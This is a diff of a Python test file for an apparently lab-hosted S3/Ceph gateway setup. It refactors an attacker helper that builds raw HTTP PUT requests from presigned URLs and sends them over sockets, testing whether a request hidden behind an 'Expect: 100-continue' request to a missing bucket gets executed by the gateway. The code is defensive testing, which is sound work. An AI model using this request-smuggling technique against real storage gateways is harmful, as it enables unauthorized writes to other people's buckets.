@@ -13,7 +13,8 @@ from collections.abc import Iterator
 from dataclasses import dataclass, field
 
 import pytest
-from machines import FACILITY, STORES
+from intruder import run
+from machines import FACILITY, HEAD, STORES
 from parser_ways import HOST, Door, Way, request, ways
 from placement_rack import service_url
 from researcher import Notebook, Researcher
@@ -43,13 +44,8 @@ s3 = client()
 place = urlsplit(os.environ["AWS_ENDPOINT_URL"])
 """
 
-ATTACKER = (
-    COMMON
-    + f"""
-def hidden(key, length=5):
-    url = urlsplit(s3.generate_presigned_url("put_object", Params=dict(Bucket="alice", Key="{PREFIX}/" + key)))
-    head = [f"PUT {{url.path}}?{{url.query}} HTTP/1.1", f"Host: {{url.netloc}}", f"Content-Length: {{length}}", "", ""]
-    return "\\r\\n".join(head) + ("inner" if length == 5 else "")
+SENDER = """
+import base64, re, socket
 
 def answers(connection, seconds):
     got = b""
@@ -71,6 +67,16 @@ def send(host, port, pieces):
         except OSError:
             pass
     return [int(status) for status in re.findall(rb"HTTP/1\\.[01] ([2-5]\\d\\d)", got)]
+"""
+
+ATTACKER = (
+    COMMON
+    + SENDER
+    + f"""
+def hidden(key, length=5):
+    url = urlsplit(s3.generate_presigned_url("put_object", Params=dict(Bucket="alice", Key="{PREFIX}/" + key)))
+    head = [f"PUT {{url.path}}?{{url.query}} HTTP/1.1", f"Host: {{url.netloc}}", f"Content-Length: {{length}}", "", ""]
+    return "\\r\\n".join(head) + ("inner" if length == 5 else "")
 
 def stored():
     found = s3.list_objects_v2(Bucket="alice", Prefix="{PREFIX}/").get("Contents", [])
@@ -201,7 +207,10 @@ def test_a_gateway_runs_what_is_hidden_where_nothing_stands_before_it(both: Both
     inner = both.hidden("straight")
     refused = request("PUT /no-such-bucket/x", f"Content-Length: {len(inner)}", "Expect: 100-continue")
     gateway = FACILITY.rack.machine(STORES[0]).address, int(FACILITY.facts["ceph_rgw_port"])
-    assert both.send(gateway[1], refused, inner, host=gateway[0]) == [404, 200]
+    # As root: a researcher's process does not reach it.
+    texts = [base64.b64encode(piece).decode() for piece in (refused, inner)]
+    program = f"{SENDER}\nsay(send({gateway[0]!r}, {gateway[1]}, {texts!r}))"
+    assert run(HEAD, "root", program) == [404, 200]
     assert "straight" in both.ran()
 
 
